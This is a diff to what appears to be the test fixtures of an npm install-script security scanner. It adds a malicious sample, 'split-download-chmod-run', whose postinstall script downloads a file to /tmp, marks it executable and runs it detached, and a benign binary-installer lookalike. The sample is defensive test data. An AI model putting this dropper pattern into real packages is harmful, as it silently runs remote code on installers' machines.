@@ -148,6 +148,22 @@ INCIDENTS: list[Replica] = [
             "scripts": {"install": 'sh -c "$npm_package_config_setup"'},
         },
     ),
+    # Download → chmod +x → run split over three child_process calls of one install script (the issue 10 brief:
+    # such a chain "at install stays low"; the shape of 2024–2025 droppers that fetch an ELF into /tmp).
+    Replica(
+        "split-download-chmod-run",
+        {
+            "install.js": (
+                "const cp = require('child_process');\n"
+                "cp.execSync('curl -fsSL -o /tmp/.cache-helper https://cdn.example.com/h');\n"
+                "cp.execSync('chmod +x /tmp/.cache-helper');\n"
+                "cp.spawn('/tmp/.cache-helper', [], { detached: true, stdio: 'ignore' }).unref();\n"
+            ),
+        },
+        "block",
+        frozenset({"shell-fetch-and-run"}),
+        manifest={"scripts": {"postinstall": "node install.js"}},
+    ),
     # A binding.gyp `actions` entry runs at install under node-gyp (gyp actions as a hidden install hook: no
     # lifecycle script in package.json, only the implicit `node-gyp rebuild`).
     Replica(
@@ -301,6 +317,22 @@ BENIGN: list[Replica] = [
         frozenset(),
         manifest={"bin": {"node-foo": "cli.js", "npm-check-things": "cli.js", "gitx": "cli.js"}},
     ),
+    # A binary installer: downloads with https (checksum elsewhere), extracts and marks its own file executable.
+    Replica(
+        "binary-installer-chmod",
+        {
+            "install.js": (
+                "const cp = require('child_process'); const https = require('https'); const fs = require('fs');\n"
+                "https.get('https://github.com/acme/tool/releases/download/v1/tool.tgz', (res) => {\n"
+                "  res.pipe(fs.createWriteStream('tool.tgz')).on('finish', () => {\n"
+                "    cp.execSync('tar -xzf tool.tgz -C bin');\n"
+                "    cp.execSync('chmod +x bin/tool');\n  });\n});\n"
+            ),
+        },
+        "allow",
+        frozenset({"install-script"}),
+        manifest={"scripts": {"postinstall": "node install.js"}},
+    ),
     # pnpm's own manifest: bins `pnpm` and `pnpx` (a toolchain that is itself such a command).
     Replica(
         "toolchain-companion-bins",
@@ -333,6 +365,7 @@ LOOKALIKES: dict[str, tuple[str, ...]] = {
     "remote-dependency": ("monorepo-workspace-and-alias-deps",),
     "shell-runs-remote-package": ("husky-install-own-dependency",),
     "shell-destructive": ("clean-script-and-build-shell",),
+    "shell-fetch-and-run": ("binary-installer-chmod",),
     "install-loads-native-addon": ("prebuilt-addon-loaded-at-runtime", "node-gyp-actions-codegen"),
     "bin-shadows-system-command": ("bin-with-node-prefix", "toolchain-companion-bins"),
     "install-anti-forensics": ("postinstall-writes-config",),
